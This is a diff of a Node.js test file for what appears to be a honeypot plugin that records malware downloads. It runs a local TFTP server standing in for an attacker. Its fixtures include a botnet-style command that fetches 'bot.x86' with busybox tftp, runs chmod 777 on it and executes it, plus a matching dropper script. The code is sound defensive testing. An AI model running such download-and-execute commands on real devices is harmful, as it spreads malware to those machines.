@@ -4,14 +4,14 @@
 // (in.tftpd) this file starts on port 69 of a loopback address, the "attacker".
 import assert from 'node:assert/strict';
 import { execFileSync, spawn } from 'node:child_process';
+import { createSocket } from 'node:dgram';
 import { createHash } from 'node:crypto';
 import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import { setTimeout as sleep } from 'node:timers/promises';
 import { after, before, test } from 'node:test';
 import { fileURLToPath } from 'node:url';
-import { attackFixture, loadPlugin } from '@honeytrap/sdk';
+import { attackFixture, loadPlugin, runPlugin } from '@honeytrap/sdk';
 
 const dir = fileURLToPath(new URL('..', import.meta.url));
 /** A loopback address of its own, so that two runs of these tests do not meet on the same port. */
@@ -20,6 +20,22 @@ const ATTACKER = `127.${1 + Math.floor(Math.random() * 250)}.${Math.floor(Math.r
 /** The first 64 KiB of the node binary: a real x86-64 ELF. */
 const BOT = readFileSync(process.execPath).subarray(0, 65536);
 const SCRIPT = Buffer.from(`#!/bin/sh\ntftp -g -r bot.x86 ${ATTACKER}\nchmod +x bot.x86\n`);
+
+/** Whether in.tftpd answers a read request for tftp1.sh with a DATA packet within 200 ms. */
+function tftpAnswers() {
+  return new Promise((resolve) => {
+    const socket = createSocket('udp4');
+    const done = (answered) => {
+      clearTimeout(timer);
+      socket.close();
+      resolve(answered);
+    };
+    const timer = setTimeout(() => done(false), 200);
+    socket.on('message', (m) => done(m.readUInt16BE(0) === 3));
+    socket.on('error', () => done(false));
+    socket.send(Buffer.from('\0\x01tftp1.sh\0octet\0', 'latin1'), 69, ATTACKER);
+  });
+}
 
 const root = mkdtempSync(join(tmpdir(), 'tftp-download-'));
 let tftpd;
@@ -35,33 +51,27 @@ before(async () => {
   );
   let stderr = '';
   tftpd.stderr.on('data', (d) => (stderr += d));
-  for (let k = 0; ; k++) {
-    if (execFileSync('ss', ['-ulnH', `src ${ATTACKER}:69`], { encoding: 'utf8' }).trim()) break;
-    if (tftpd.exitCode !== null || k > 100) throw new Error(`in.tftpd did not start: ${stderr}`);
-    await sleep(50);
-  }
+  for (let tries = 0; !(await tftpAnswers()); tries++)
+    if (tftpd.exitCode !== null || tries > 50)
+      throw new Error(`in.tftpd does not answer: ${stderr}`);
 });
 after(() => {
   tftpd?.kill();
   rmSync(root, { recursive: true, force: true });
 });
 
-/** The plugin loaded with `config`, run on `received` from the attacker; closed after. */
-async function run(received, { config = {}, results } = {}) {
-  const plugin = await loadPlugin(dir, { allowPrivateNetwork: true, config });
-  try {
-    const attack = attackFixture({ received, remote: ATTACKER, port: 23 });
-    return await plugin.run(attack, results ? { results } : {});
-  } finally {
-    await plugin.close();
-  }
-}
-
-/** The download findings as [url, status, via]. */
+/** [url, status, via] of each download finding. */
 const summary = (out) =>
   out.findings
     .filter((f) => f.type === 'download')
-    .map((f) => [f.value, f.meta.status, f.meta.via]);
+    .map(({ value, meta }) => [value, meta.status, meta.via]);
+
+/** runPlugin on `received` from the attacker, the broker allowed to reach loopback; `opts`: config, results. */
+const run = (received, opts) =>
+  runPlugin(dir, attackFixture({ received, remote: ATTACKER, port: 23 }), {
+    allowPrivateNetwork: true,
+    ...opts,
+  });
 
 test('busybox tftp -g -r FILE HOST: the file is stored, hashed and typed', async () => {
   const received = `cd /tmp; /bin/busybox tftp -g -r bot.x86 ${ATTACKER}; chmod 777 bot.x86; ./bot.x86\r\n`;
